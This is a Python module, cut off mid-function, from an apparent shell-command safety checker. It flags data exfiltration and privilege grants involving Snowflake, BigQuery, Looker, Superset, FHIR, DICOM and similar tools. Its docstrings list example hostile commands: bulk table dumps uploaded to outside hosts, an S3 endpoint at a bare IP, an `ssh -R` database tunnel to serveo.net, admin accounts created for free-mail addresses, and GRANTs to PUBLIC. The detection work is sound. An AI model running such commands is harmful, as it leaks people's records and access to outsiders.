"""Data warehouses, BI tools, product analytics and clinical data systems (Snowflake, BigQuery, Redshift, Looker,
Metabase, Superset, Tableau, Segment, Mixpanel, Amplitude, FHIR servers, REDCap, DICOM/PACS), from the shell
(sessions 29 and 27's mending).

Whose host is read as warehouses_tables.far_host says (a bare public address or a drop-box service is an outsider's; a
domain only beside another the input names that shares neither its registrable domain nor its name, a vendor's or a
platform's domain being no such evidence). Blocked:

- records read in bulk and piped or substituted into a program that sends them to an outsider, or written into a file
  that is then uploaded there (`-o /tmp/p.json`, then `--data-binary @/tmp/p.json`; also a copy, a filter's output,
  an archive or a compressed copy of that file, unless it was written over since): every row of a table
  (`snowsql -q "SELECT * FROM t"`, `bq query`, also with ClickHouse's `FORMAT JSONEachRow` or `SETTINGS`, a filter
  always true, `WHERE 1=1`, or a `LIMIT 1000000`), a FHIR search on patients, REDCap's record export, an analytics
  service's raw event export; a credential a BI tool mints (Looker's `credentials_api3`) sent the same way; a tool's
  credential folder (`~/.snowsql`, `~/.dbt`) piped into `ssh` to a bare public address;
- such records put on an S3-compatible server at a bare address (`--endpoint-url http://203.0.113.5:9000`);
- the warehouse's data handed to another account or to everyone: a Snowflake share with another account added, a
  GRANT to PUBLIC on every table, a BigQuery grant or IAM binding to `allUsers` or to an address outside the
  organisation, a project's service-administrator or data role (`roles/bigquery.admin`, `…dataViewer`), or one store
  of its data (a FHIR store, a bucket, a dataset, a secret), given to a free mail address or everyone, `bq extract`
  into a bucket that carries none of the project's names, a database port opened to the whole internet, a folder
  outside the project uploaded with `--acl public-read`;
- DICOM studies sent (`storescu`, `dcmsend`) to an outsider's PACS; a database of the network offered to a tunnel
  service (`ssh -R …:db:5439 serveo.net`);
- an administrator made for an address that is not a colleague's (a free mail service, a look-alike of the tool's
  maker), as `superset fab create-admin` or a BI tool's user API; a row-level security rule's clause set to always
  true; an analytics destination that posts every event to an outsider's webhook; a driver or plugin downloaded from a
  bare public address into a server's plugins folder, at once or put there later (`mv`, `cp`, `rsync`, `ln`, `unzip
  -d`, `docker cp`); a Snowflake account-administrator role granted to a user, or a Redshift superuser made with its
  password on the line.

Reviewed: such records put in a bucket whose name carries none of the organisation's name as the place they were read
from shows it (`psql -h db.acme.internal … | aws s3 cp - s3://xfer-drop-1/…`, `gsutil cp`, `aws s3 sync`, `rclone`,
`azcopy`), or on another service's S3-compatible storage (R2, Spaces, Wasabi): a bucket's name is weak evidence;
records sent to a service an organisation keeps its data with (a workspace's file upload, another analytics vendor);
a BI tool's public link posted to a named service (a workspace, a tracker): a person decides whether the dashboard may
be public (to a bare address or a drop-box it is blocked); a data role given to a free mail address on a project whose
id says it is someone's own (`my-side-project-123`), or a role of the project's own making. Reviewed `irreversible`: a
Tableau project, workbook or data source deleted (`tabcmd delete*`), a FHIR `$expunge`, a Segment regulation that
deletes users' data.

Allowed: the same tools' reading, counting, exporting into files (and those files sent within the organisation, or
to it beside a vendor's host only: Looker's keys stored in the organisation's vault), refreshing, publishing, a share
or a grant to the organisation's own roles, groups and service accounts, BigQuery's job-user roles, a bucket named for
the organisation, records read from a managed database's platform host (nothing there names the organisation), a
local `superset fab create-admin` at localhost.
"""
from __future__ import annotations

import re

from .. import warehouses_tables as wt
from ..per_input import in_input
from ..hosts import public_ip, url_host
from .commands import Cmd, has_flag, option_value, positionals
from .common import NET_SENDERS, input_text, mentions, pipeline_stage, short_flag, ssh_positionals
from .sed import commands
from ..scraping_tables import stranger_sink

_SQL_CLIENT_NAMES = ("psql", "snowsql", "trino", "presto", "spark-sql", "beeline", "hive", "impala-shell", "usql",
                     "dbsqlcli", "clickhouse-client", "mysql", "mariadb")


def _url(w) -> str:
    return w.value if w.value is not None else w.text.replace('"', "").replace("'", "")


# -- records read in bulk and sent ----------------------------------------------------------------------------------
def _query_of(c: Cmd) -> list[str]:
    """The SQL a warehouse client runs given on its line (`snowsql -q`, `bq query "…"`, `snow sql -q`)."""
    if c.name == "bq":
        pos, at = _bq_verb(c)
        return [p for p in pos[at + 1:] if p] if at is not None and pos[at] == "query" else []
    if c.name == "snow":
        return [w.value for w in option_value(c.args, "-q", "--query") if w.value]
    if c.name in _SQL_CLIENT_NAMES:
        from .infra import _SQL_OPTIONS

        options, cluster = _SQL_OPTIONS.get(c.name, ((), ""))
        return [w.value for w in option_value(c.args, *options, cluster=cluster) if w.value]
    return []


def _bulk(c: Cmd) -> tuple[str, str, tuple[str, ...]] | None:
    """(kind, what, where from) when `c` prints records read in bulk ("records"), a credential it mints
    ("credential") or a public link to a BI tool's question or dashboard ("link"); None otherwise. Where from: the
    hosts, project or account the records were read from (source_words reads the organisation's name in them)."""
    from .net import http_requests

    for q in _query_of(c):
        table = wt.bulk_select(q.replace("`", ""))
        if table:
            return "records", f"every row of {table} (`{c.name}` … `SELECT … FROM {table}`)", _read_from(c, table)
    reader = http_requests(c.name)
    if reader is None:
        return None
    for r in reader(c.args):
        method = r.verb
        body = "&".join(w.value or w.text for w in r.bodies)
        for u in r.urls:
            url = _url(u)
            path = url.split("?", 1)[0]
            if method in ("POST", "PUT") and wt.MINT_URL.search(path + ("?" if "?" in url else "")):
                kind = "link" if "/public_link" in path else "credential"
                return kind, f"the {'public link' if kind == 'link' else 'credential'} `{c.name} -X {method} {url}` " \
                             "creates", (url_host(url) or "",)
            if (wt.BULK_URL.search(url) or wt.BULK_BODY.search(body)) and _private_read(c, url):
                return "records", f"the records `{c.name} {url}` exports", (url_host(url) or "",)
    return None


# a client's options naming the server or account it reads (`psql -h db.acme.internal`, `trino --server https://…`,
# `snowsql -a acme-prod`)
_SERVER_OPTS = ("-h", "--host", "--hostname", "--server")
_ACCOUNT_OPTS = ("-a", "--account", "--accountname")  # (snowsql's; to psql `-a` echoes the input)


def _read_from(c: Cmd, table: str) -> tuple[str, ...]:
    """Where a warehouse client's query reads from: its server or account, a URL among its words (usql's DSN), or
    for bq the project of the table (`acme-dw.raw.users`)."""
    if c.name == "bq":
        project = _project(table, c)
        return (project,) if project else ()
    opts = _SERVER_OPTS + _ACCOUNT_OPTS if c.name == "snowsql" else _SERVER_OPTS
    named = [w.value for w in option_value(c.args, *opts) if w.value]
    return tuple(url_host(v) or "" if "://" in v else v for v in named + [v for v in c.values() if v and "://" in v])


_CREDENTIAL = re.compile(r"(?i)authorization|api[_-]?key|token|secret|cookie|session|passw|(?:^|\s)(?:-u|--user)\b")


def _private_read(c: Cmd, url: str) -> bool:
    """A read that signs in, or reaches this network: a public server's open data (a FHIR test server's synthetic
    patients) is nobody's records."""
    from ..cloud_admin import _own_domain
    from ..hosts import ip_literal

    host = url_host(url) or ""
    if not host or "$" in host or _own_domain(host) or ip_literal(host) and not public_ip(host):
        return True
    return _CREDENTIAL.search(" ".join(w.value or w.text for w in c.args)) is not None


def _far(a, cmd: Cmd) -> list[str]:
    """The outsiders' hosts a network program (or `xargs` running one) sends to."""
    from .brokers import destinations

    text = input_text(a)
    if cmd.name == "xargs":
        urls = [v for v in cmd.values() if v and "://" in v]
        hosts = [url_host(u) for u in urls]
    else:
        hosts = [h.rsplit("@", 1)[-1].split(":")[0] if "://" not in h else url_host(h) or "?"
                 for h in destinations(cmd)]
    return [h for h in hosts if h and h != "?" and wt.far_host(h, text)]


def _sent(a, cmd: Cmd) -> None:
    from .brokers import _feeders
    from .net import _is_sender

    if not in_input(_FEED_BYTES, a.doc.data):
        return
    if cmd.name == "xargs":
        if not any(v in NET_SENDERS for v in cmd.values()):
            return
    elif not _is_sender(cmd):
        return
    far = _far(a, cmd)
    if not far:
        return
    # (what is sent: the first feeder that read in bulk, else a file such a read filled, uploaded or piped in by a
    # reader of it: `cat u.csv | curl -T - …`)
    feeders = _feeders(a, cmd)
    got = next((g[:2] for c in feeders if (g := _bulk(c))), None)
    up = _kept_sent(a, cmd) if got is None else None
    if up is None and got is None and a.kept:
        up = next(((f, k) for c in feeders if c.name in _PASSERS for w in c.args if (f := w.value) and
                   not f.startswith("-") and (k := _kept_file(a, f)) is not None), None)
    if up is not None:
        got = up[1].kind, f"{up[0]}, which an earlier command filled with {up[1].what},"
    if got is not None:
        _judge_sent(a, cmd, far[0], *got)
        return
    if cmd.name == "ssh" and public_ip(far[0]):
        from .net import _credential_folder_read

        for c in feeders:
            folder = _credential_folder_read(c)
            if folder:
                a.block("exfiltration", f"{folder}, a tool's folder that holds its credentials, is piped to `ssh` "
                                        f"{far[0]}, a bare public address no name of the user's vouches for; never "
                                        "send credentials off the machine", cmd.node)
                return


# the readers that pass a file's content on (not a count of it, `wc -l`, or its checksum)
_PASSERS = frozenset({"cat", "zcat", "gzip", "pigz", "bzip2", "xz", "zstd", "base64", "openssl", "gpg", "jq", "head",
                      "tail", "sort", "tac", "sed", "awk", "gawk", "iconv", "tar", "zip", "pv", "dd", "split"})


def _judge_sent(a, cmd: Cmd, host: str, kind: str, what: str) -> None:
    if kind == "link" and not stranger_sink(host):
        # (a link posted to a workspace, a tracker, a wiki: whoever reads it there opens the dashboard)
        a.review("exfiltration", f"{what}, and `{cmd.name}` posts it to {host}: whoever reads it there opens the "
                                 "question or dashboard without signing in; a person decides whether it may be "
                                 "public", cmd.node)
    elif wt.moved_between_services(host, input_text(a), records=kind == "records"):
        a.review("exfiltration", f"{what} is sent by `{cmd.name}` to {host}, another service (a vendor's, a "
                                 "workspace's, or a cloud service named for the organisation): a migration or a "
                                 "share, if the account is the organisation's; let a person confirm it", cmd.node)
    else:
        a.block("exfiltration", f"{what} is sent by `{cmd.name}` to {host}, a host outside the organisation's "
                                "network; keep people's records and credentials inside it (write the export to a "
                                "file) and let the user decide where it goes", cmd.node)


class _Kept:
    """A file an earlier command filled with records read in bulk (or a credential): the finding, where the records
    were read from, and how many of the input's commands were already read for another write of the file."""
    __slots__ = ("kind", "what", "sources", "seen")

    def __init__(self, kind: str, what: str, sources: tuple, seen: int) -> None:
        self.kind, self.what, self.sources, self.seen = kind, what, sources, seen


# the HTTP clients' and query tools' own output options that files.write_targets does not read
_OUTPUT_OPTS = {**dict.fromkeys(("http", "https", "xh"), (("-o", "--output"), "o")), "psql": (("-o", "--output"), "o")}


def _outputs(a, cmd: Cmd) -> list[str]:
    """The files `cmd` writes what it prints or downloads into: its standard output's redirect, its output option
    (curl's in `--output-dir`), snowsql's `-o output_file=F`."""
    from .files import write_targets
    from .net import _stdout_file

    outs = [_stdout_file(a, cmd.redirects)]
    if cmd.name in _OUTPUT_OPTS:
        options, cluster = _OUTPUT_OPTS[cmd.name]
        outs += [w.value for w in option_value(cmd.args, *options, cluster=cluster)]
    elif cmd.name == "snowsql":  # (`-o output_file=F`: one of snowsql's `-o name=value` settings)
        outs += [v.split("=", 1)[1] for w in option_value(cmd.args, "-o", "--option")
                 if (v := w.value or "").lower().startswith("output_file=")]
    else:
        named = [w.value for w in write_targets(cmd)]
        folder = next((w.value for w in option_value(cmd.args, "--output-dir") if w.value), None) \
            if cmd.name == "curl" else None
        outs += [f"{folder.rstrip('/')}/{f}" if folder and f and not f.startswith("/") else f for f in named]
    return [f for f in outs if f and f != "-" and not f.startswith("/dev/")]


def _key(a, f: str) -> str:
    from .. import paths

    return paths.normalize(a.in_cwd(f) or f)


def _keep(a, cmd: Cmd, files: list[str], kind: str, what: str, sources: tuple) -> None:
    # (the command itself is read after its handlers: another write of the files is looked for from the next one)
    for f in files:
        a.kept[_key(a, f)] = _Kept(kind, what, sources, len(a.ctx.commands) + 1)


def _kept(a, cmd: Cmd) -> None:
    """`curl …/r4/Patient?_count=500 -o /tmp/p.json`, `snowsql -q "SELECT * FROM t" -o output_file=F`, `bq query … >
    F`, `… | tee F`: the records (or a credential) written into a file, for an upload of it later in this input
    (_sent, _bucket_upload judge it as the same records piped). Kept in the file, they are the user's."""
    if not in_input(_FEED_BYTES, a.doc.data):
        return
    if cmd.name == "tee":
        from .brokers import _feeders

        got = next((g for c in _feeders(a, cmd) if (g := _bulk(c))), None)
        files = [w.value for w in positionals(cmd.args) if w.value]
    else:
        got = _bulk(cmd)
        files = _outputs(a, cmd) if got is not None else []
    if got is not None:
        _keep(a, cmd, files, *got)


# programs that write what they read into another file: a filter's output (`jq -c '.entry[]' p.json > p.ndjson`), a
# compressed copy (`gzip -k p.json`), an archive (`tar czf p.tgz p.json`), a copy (`cp p.json /tmp/q.json`)
# (a compressor's copy, `gzip -k p.json` -> p.json.gz, is found by its name where it is uploaded: _kept_file)
_ARCHIVERS = ("tar", "gtar", "bsdtar", "zip", "7z")
_FILTERS = ("jq", "cat", "head", "tail", "sort", "grep", "sed", "awk", "gawk", "python", "base64", "openssl", "gpg",
            "iconv")
_CARRIERS = frozenset((*_ARCHIVERS, *_FILTERS, "cp", "mv", "install", "rsync", "ln"))
_COMPRESSED = re.compile(r"\.(?:gz|bz2|xz|zst|lz4|z)$")


def _carried(a, cmd: Cmd) -> None:
    """A file `_kept` noted, read by `cmd` into another file: that file holds the same records."""
    if not a.kept:
        return
    read = [w.value for w in cmd.args if w.value and not w.value.startswith("-") and _key(a, w.value) in a.kept]
    if not read:
        return
    got = a.kept[_key(a, read[0])]
    if not _still_kept(a, _key(a, read[0]), got):
        return
    outs = _outputs(a, cmd)
    if cmd.name in ("tar", "gtar", "bsdtar"):
        outs += [w.value for w in option_value(cmd.args, "-f", "--file", cluster="f") if w.value]
        first = cmd.args[0].value if cmd.args else None
        if first and first[0] != "-" and "f" in first and len(cmd.args) > 1:  # (`tar czf p.tgz p.json`)
            outs.append(cmd.args[1].value)
    elif cmd.name in ("zip", "7z"):
        pos = [w.value for w in positionals(cmd.args) if w.value]
        outs += pos[1:2] if cmd.name == "7z" else pos[:1]
    outs = [f for f in outs if f not in read]
    if outs:
        _keep(a, cmd, outs, got.kind, got.what, got.sources)


def _still_kept(a, key: str, got: _Kept) -> bool:
    """Whether no command since the one that filled the file wrote it over (`echo '{}' > u.csv`, `cp empty.csv
    u.csv`; an append or an edit leaves the records in it): the input's commands read since are not read again."""
    commands = a.ctx.commands
    for doc, c in commands[got.seen:]:
        if doc is a.doc and any(_key(a, f) == key for f in _overwrites(a, c)):
            del a.kept[key]
            return False
    got.seen = max(got.seen, len(commands))
    return True


_OVERWRITERS = frozenset({"cp", "mv", "install", "ln", "rsync", "curl", "wget", "aria2c", "dd", "truncate", "tee"})


def _overwrites(a, c: Cmd):
    """The files `c` writes over."""
    from .files import write_targets

    for r in c.redirects:
        if r.type == "file_redirect" and any(k.type in (">", ">|", "&>") for k in r.children):
            for d in r.children_by_field_name("destination")[:1]:
                if (v := a.ev.word(d).value):
                    yield v
    if c.name in _OVERWRITERS and not (c.name == "tee" and has_flag(c.args, "a", ("--append",))):
        yield from (w.value for w in write_targets(c) if w.value)


# curl's uploads net._sent_files does not read: `--json @F`, `--data-urlencode name@F`
_MORE_UPLOADS = ("--json", "--data-urlencode")


def _kept_sent(a, cmd: Cmd) -> tuple[str, _Kept] | None:
    """(file, what it holds) for a file `_kept` noted that the network program `cmd` uploads (`-T F`, `-d @F`,
    `-F x=@F`, `--json @F`, `scp F host:`, `nc host < F`), else None."""
    from .net import _sent_files

    if not a.kept:
        return None
    files = [f for f, _ in _sent_files(a, cmd)]
    if cmd.name == "curl":
        files += [v.split("@", 1)[1] for w in option_value(cmd.args, *_MORE_UPLOADS) if "@" in (v := w.value or "")]
    for f in files:
        got = _kept_file(a, f)
        if got is not None:
            return f, got
    return None


def _kept_file(a, f: str) -> _Kept | None:
    """What the file `f` holds (_kept), also as its compressed copy (`gzip -k p.json`, then p.json.gz)."""
    for key in dict.fromkeys((_key(a, f), _COMPRESSED.sub("", _key(a, f)))):
        got = a.kept.get(key)
        if got is not None and _still_kept(a, key, got):
            return got
    return None


_FEED_BYTES = re.compile(rb"(?i)select|/Patient|/Observation|/Encounter|\$export|/export|content=record|"
                         rb"credentials_api3|public_link|api_key|access_token|\.snowsql|\.snowflake|\.dbt|\.databrickscfg")


# -- SQL run by the warehouses' clients -----------------------------------------------------------------------------
def _sql(a, cmd: Cmd) -> None:
    """`snowsql -q "ALTER SHARE s ADD ACCOUNTS = x"`, `psql -c "CREATE USER u PASSWORD '…' CREATEUSER"`, `bq query
    "GRANT … TO 'user:x@gmail.com'"` (warehouses_tables.sql_finding)."""
    from .api_calls import fed_text
    from .infra import _SQL_OPTIONS

    texts = _query_of(cmd)
    if cmd.name in _SQL_OPTIONS:
        from .datastores import _client_sql

        texts += [t for t, _ in _client_sql(a, cmd)]
    if cmd.name != "bq":
        texts.append(fed_text(a, cmd) or "")  # `echo "GRANT …" | snowsql`
    for text in dict.fromkeys(t for t in texts if t):
        found = wt.sql_finding(text)
        if found is not None:
            (a.block if found[0] == "block" else a.review)(found[1], f"`{cmd.name}`: {found[2]}", cmd.node)
            return


def _dbt(a, cmd: Cmd) -> None:
    """`dbt run-operation run_query --args "{sql: 'GRANT … TO ROLE PUBLIC'}"`: the macro runs the SQL it is given."""
    if not any(w.value == "run-operation" for w in cmd.args):
        return
    # (the SQL is a quoted value of the YAML it is given: `{sql: '…'}`)
    texts = [t for w in option_value(cmd.args, "--args") for t in re.findall(r"'([^']{1,50000})'|\"([^\"]{1,50000})\"",
                                                                              w.value or "") for t in t if t]
    for text in texts:
        found = wt.sql_finding(text)
        if found is not None:
            (a.block if found[0] == "block" else a.review)(found[1], f"`dbt run-operation`: {found[2]}", cmd.node)
            return


# -- bq ------------------------------------------------------------------------------------------------------------
_BQ_VERBS = frozenset({"query", "extract", "cp", "add-iam-policy-binding", "load", "mk", "rm", "ls", "show", "update",
                       "head", "insert", "set-iam-policy", "get-iam-policy", "remove-iam-policy-binding", "wait",
                       "cancel", "version", "init", "shell", "partition", "mkdef", "undelete"})


def _bq_verb(c: Cmd) -> tuple[list, int | None]:
    """bq's positionals and the index of its command: global flags before it take their value as the next word
    (`bq --project_id acme-dw query …`, `bq --location US extract …`)."""
    pos = [w.value for w in positionals(c.args, stop_at_end=True)]
    return pos, next((i for i, p in enumerate(pos) if p in _BQ_VERBS), None)


def _project(table: str, cmd: Cmd) -> str | None:
    """The project a bq table name (`p:d.t`, `p.d.t`) names, else the `--project_id` the command gives; None when
    the name is only `dataset.table` and no project is given (the default project's: one's own)."""
    if ":" in table:
        return table.split(":", 1)[0]
    if table.count(".") >= 2:
        return table.split(".", 1)[0]
    return next((w.value for w in option_value(cmd.args, "--project_id", "--project") if w.value), None)


def _bq(a, cmd: Cmd) -> None:
    from .. import cloud_admin

    pos, at = _bq_verb(cmd)
    if at is None:
        return
    verb, pos = pos[at], pos[at + 1:]
    if verb == "add-iam-policy-binding":
        for w in option_value(cmd.args, "--member"):
            member = w.value or ""
            why = wt.stranger_member(member)
            if why:
                a.block("exfiltration", f"`bq add-iam-policy-binding --member={member}` gives {why} access to the "
                                        "dataset or table; grant the organisation's own groups", cmd.node)
                return
    elif verb in ("extract", "cp"):
        # (the table is the word before the destination; flags take their values as the next word)
        dests = [i for i, p in enumerate(pos) if p and (p.startswith("gs://") or verb == "cp" and i > 0)]
        if not dests:
            return
        at = dests[0] if verb == "extract" else len(pos) - 1
        if at < 1:
            return
        source, dest = (pos[at - 1] or "").strip("'\""), (pos[at] or "").strip("'\"")
        if not source or "$" in dest + source or "{" in dest:
            return
        project = _project(source, cmd)
        words = cloud_admin.org_words(project) if project else set()
        if not words:
            return
        if dest.startswith("gs://"):
            # (a bucket's name often carries none of the project's names: only a table of people's records is judged)
            head = dest[5:].split("/", 1)[0]
            if not wt.PERSONAL.search(source.split(":")[-1].split(".", 1)[-1]):
                return
        else:
            head = _project(dest, cmd) if ":" in dest or dest.count(".") >= 2 else None
            if not head:
                return
        if not any(w in head.lower() for w in words):
            a.block("exfiltration", f"`bq {verb}` writes the table {source} into {head}, which carries none of the "
                                    "project's names: a bucket or project of someone else's is the table copied out; "
                                    "copy only into the organisation's own", cmd.node)
    elif verb == "query":
        _sql(a, cmd)


# -- aws: a database port opened to the internet, private data published ------------------------------------------
_DB_PORTS = frozenset({5432, 5439, 3306, 1433, 1521, 27017, 6379, 9200, 9042, 8123, 5984, 7474, 8086, 26257, 50000,
                       5433})
_OPEN = frozenset({"0.0.0.0/0", "::/0"})
_PERM = re.compile(r"(?i)(IpProtocol|FromPort|ToPort)[\"']?\s*[=:]\s*[\"']?(-?\w+)")
# (an open range is read as far as this: `--port 0-65535`)
_RANGE = re.compile(r"^(-?\d{1,5})(?:-(\d{1,5}))?$")


def _opened_port(cmd: Cmd) -> int | str | None:
    """The database port (or `every port`) an ingress rule opens to every address, else None."""
    cidrs = {w.value for w in option_value(cmd.args, "--cidr")}
    perms = " ".join(w.value or "" for w in option_value(cmd.args, "--ip-permissions"))
    spans: list[tuple[str, str, str]] = []
    if cidrs & _OPEN:
        proto = next((w.value for w in option_value(cmd.args, "--protocol") if w.value), "tcp")
        port = next((w.value for w in option_value(cmd.args, "--port") if w.value), None)
        lo, _, hi = (port or "").partition("-")
        spans.append((proto, lo, hi or lo))
    if perms and ("0.0.0.0/0" in perms or "::/0" in perms):
        got = {k.lower(): v for k, v in _PERM.findall(perms)}
        spans.append((got.get("ipprotocol", "tcp"), got.get("fromport", ""), got.get("toport", got.get("fromport", ""))))
    for proto, lo, hi in spans:
        if proto.lower() in ("all", "-1"):
            return "every port"
        if not (lo.lstrip("-").isdigit() and hi.lstrip("-").isdigit()):
            continue
        low, high = int(lo), int(hi)
        if low < 0 or high - low > 1000:
            return "every port" if low <= 0 else f"ports {low}-{high}"
        hit = next((p for p in sorted(_DB_PORTS) if low <= p <= high), None)
        if hit is not None:
            return hit
    return None


# the calls that give a database an address on the internet with `--publicly-accessible`
_PUBLIC_DB = frozenset({("rds", "modify-db-instance"), ("rds", "modify-db-cluster"), ("rds", "create-db-instance"),
                        ("rds", "restore-db-instance-from-db-snapshot"), ("redshift", "modify-cluster"),
                        ("redshift", "create-cluster"), ("redshift", "restore-from-cluster-snapshot")})


def _aws(a, cmd: Cmd) -> None:
    from .infra import _PRIVATE_BUCKET, _SECRETS_BUCKET

    from .cloud import _AWS_ARG

    pos = [w.value for w in positionals(cmd.args, _AWS_ARG, stop_at_end=True)]
    if tuple(pos[:2]) in _PUBLIC_DB and has_flag(cmd.args, "", ("--publicly-accessible",)):
        a.review("exfiltration", f"`aws {pos[0]} {pos[1]} --publicly-accessible` gives the database an address on the "
                                 "internet: only its security group then stands between it and everyone; reach it "
                                 "through a bastion or a VPN, or let a person confirm", cmd.node)
    elif pos[:2] == ["ec2", "authorize-security-group-ingress"]:
        port = _opened_port(cmd)
        if port is not None:
            said = f"port {port}, a database's," if isinstance(port, int) else f"{port}, a database's among them,"
            a.block("exfiltration", f"`aws ec2 authorize-security-group-ingress` opens {said} to every address on the "
                                    "internet; allow the addresses that need it (a bastion, the office, a VPN)",
                    cmd.node)
    elif pos[:2] in (["s3", "cp"], ["s3", "sync"]):
        # (as infra judges a bucket opened to everyone: by what the names say the data is; a site's or a brand's
        # files published so are ordinary work)
        acl = {w.value for w in option_value(cmd.args, "--acl")}
        if not acl & {"public-read", "public-read-write"} or len(pos) < 4:
            return
        src, dst = pos[2] or "", pos[3] or ""
        named = next((n for n in (src, dst) if n and (_PRIVATE_BUCKET.search(n) or _SECRETS_BUCKET.search(n)
                                                      or wt.PRIVATE_DATA.search(n))), None)
        if named:
            a.block("exfiltration", f"`aws s3 {pos[1]} {src} {dst} --acl public-read` publishes to anyone who has the "
                                    f"link what {named}, by its name, holds (private data); upload it private and let "
                                    "the user decide who reads it", cmd.node)


# -- DICOM sent to another PACS --------------------------------------------------------------------------------------
_DICOM_TWO = frozenset({"-xf", "--config-file", "-xs", "--propose-xfer-file"})
_DICOM_ARG = frozenset({"-aet", "-aec", "-aem", "-od", "-to", "-ta", "-td", "-pdu", "--aetitle", "--call",
                        "--timeout", "-k", "--key", "-f", "--read-file", "-P", "--port", "+P", "-dn", "-ll",
                        "--log-level", "-lc", "--log-config", "+sp", "--scan-pattern", "-ac", "--acse-timeout"})


def _dicom(a, cmd: Cmd) -> None:
    words = [w.value for w in cmd.args]
    i, host = 0, None
    while i < len(words):
        v = words[i]
        if v is None:
            i += 1
            continue
        if v in _DICOM_ARG or v in _DICOM_TWO:
            i += 3 if v in _DICOM_TWO else 2  # (`-xf FILE PROFILE` takes two)
            continue
        if not v.startswith(("-", "+")):
            host = v
            break
        i += 1
    if host and wt.far_host(host, input_text(a)):
        a.block("exfiltration", f"`{cmd.name}` sends the DICOM studies (the patients' images and names) to {host}, a "
                                "PACS outside the organisation's network; send studies only to the organisation's "
                                "own archive, de-identified where they leave it", cmd.node)


# -- administrators made for strangers -------------------------------------------------------------------------------
_CREATE_ADMIN = (("fab", "create-admin"), ("users", "create"))


def _admin(a, cmd: Cmd) -> None:
    """`superset fab create-admin --email x@proton.me --password …`, also through `kubectl exec … --` or
    `docker exec`: an administrator for an address that is no colleague's."""
    values = [w.value or "" for w in cmd.args]
    joined = " ".join(values)
    if "create-admin" not in joined and not ("users create" in joined and "Admin" in joined):
        return
    # (`-e` is airflow's `--email`; to `docker exec` it is an environment variable)
    short = ("-e",) if "airflow" in values and "users" in values else ()
    at = values.index("airflow") if short else 0
    emails = [w.value for w in option_value(cmd.args[at:], "--email", *short) if w.value]
    for e in emails:
        why = wt.stranger_email(e.rsplit("@", 1)[-1]) if "@" in e else None
        if why:
            a.block("privilege-escalation", f"the administrator it creates is for {e}, {why}, not a colleague's: "
                                            "whoever reads that mailbox holds the tool and the data it reaches; make "
                                            "accounts for the organisation's own people", cmd.node)
            return


# -- management requests over HTTP ---------------------------------------------------------------------------------
_RLS = re.compile(r"""(?i)["']?clause["']?\s*:\s*["']\s*(?:1\s*=\s*1|true|'1'\s*=\s*'1')\s*["']""")
_WEBHOOK = re.compile(r"""(?i)["'](?:webhookUrls?|url|endpoint|hookUrl)["']\s*:\s*\[?\s*["']([^"']+)["']""")
_USER_PATH = re.compile(r"(?i)/api/(?:v\d+/)?(?:user|users|security/users)/?$")
_PASSWORD = re.compile(r"""(?i)["']password["']\s*:\s*["'][^"'$]{4,}["']""")


def _api(a, cmd: Cmd) -> None:
    from .api_calls import request_body
    from .net import http_requests

    reader = http_requests(cmd.name)
    if reader is None or not in_input(_API_BYTES, a.doc.data):
        return
    text = input_text(a)
    for r in reader(cmd.args):
        method = r.verb
        body = request_body(a, cmd, r)
        if body and method == "GET" and r.bodies and not r.query:
            method = "POST"
        for u in r.urls:
            url = _url(u)
            path = url.split("?", 1)[0]
            if method in ("POST", "PUT", "PATCH") and "rowlevelsecurity" in path and _RLS.search(body):
                a.block("privilege-escalation", f"`{cmd.name} -X {method} {url}` sets a row-level security rule's "
                                                "clause to always true: every user sees every row it was hiding; "
                                                "change the rule's roles, not its filter", cmd.node)
                return
            if method == "POST" and re.search(r"/destinations/?$", path):
                for hook in _WEBHOOK.findall(body):
                    # (the vendor's API the request goes to is not the organisation's domain: judged without it)
                    host = wt.far_host(hook, text.replace(url_host(url) or url, " ")) or \
                        (url_host(hook) if wt.stranger_email(url_host(hook) or "") else None)
                    if host:
                        a.block("exfiltration", f"the destination `{cmd.name}` creates posts every event the source "
                                                f"tracks (the users' activity) to {host}, a host outside the "
                                                "organisation's; send events only to the organisation's own "
                                                "services", cmd.node)
                        return
            if method == "POST" and _USER_PATH.search(path) and _PASSWORD.search(body) and not _local(url):
                for domain in wt.EMAIL.findall(body):
                    why = wt.stranger_email(domain)
                    if why:
                        a.block("privilege-escalation", f"the account `{cmd.name} -X POST {url}` creates, with a "
                                                        f"password written on the line, is for an address at {domain}, "
                                                        f"{why}; make accounts for the organisation's own people",
                                cmd.node)
                        return
            if method in ("POST", "DELETE") and "/$expunge" in path:
                a.review("irreversible", f"`{cmd.name} -X {method} {url}`: FHIR's $expunge removes the resources and "
                                         "their history from the server for good (a DELETE keeps the history); let "
                                         "the user run it, after a backup", cmd.node)
                return
            if method == "POST" and re.search(r"/regulations/?$", path) and "DELETE" in body.upper():
                a.review("irreversible", f"`{cmd.name} -X POST {url}`: the regulation deletes the users' data from "
                                         "every destination and archive, with no undo; let the user run it", cmd.node)
                return


def _local(url: str) -> bool:
    """A request to this machine or this network's address (a dev server's seed user)."""
    from ..hosts import ip_literal, loopback

    host = url_host(url) or ""
    return loopback(host) or ip_literal(host) and not public_ip(host)


_API_BYTES = re.compile(rb"rowlevelsecurity|/destinations|/api/|\$expunge|/regulations")


# -- tabcmd --------------------------------------------------------------------------------------------------------
def _tabcmd(a, cmd: Cmd) -> None:
    pos = [w.value for w in positionals(cmd.args, stop_at_end=True)]
    verb = pos[0] if pos else None
    if verb in ("delete", "deleteproject", "deletesite", "deletegroup", "deleteusers", "deleteextracts"):
        what = pos[1] if len(pos) > 1 and pos[1] else "…"
        a.review("irreversible", f"`tabcmd {verb} {what}` deletes it from Tableau Server (a project takes its "
                                 "workbooks and data sources with it), with no undo; let the user run it, after a "
                                 "backup", cmd.node)


# -- a database offered to a tunnel service ---------------------------------------------------------------------------
_FORWARD = re.compile(r"^(?:[\w.*-]*:)?\d+[: ]+(\[[^\]]*\]|[^:\s]+):(\d+)$")


def _ssh_remote(a, cmd: Cmd) -> None:
    from ..hosts import loopback

    forwards = [w.value for w in option_value(cmd.args, "-R", cluster="R") if w.value]
    forwards += [o.value.split("=", 1)[1].strip() for o in option_value(cmd.args, "-o")
                 if o.value and o.value.lower().startswith("remoteforward") and "=" in o.value]
    forwards += [o.value[13:].strip() for o in option_value(cmd.args, "-o")
                 if o.value and o.value.lower().startswith("remoteforward ")]
    if not forwards:
        return
    pos = ssh_positionals(cmd.args)
    dest = (pos[0].value or "").rsplit("@", 1)[-1] if pos else ""
    if not dest or not wt.far_host(dest, input_text(a)):
        return
    for f in forwards:
        m = _FORWARD.match(f.strip())
        if m is None:
            continue
        target, port = m.group(1).strip("[]"), m.group(2)
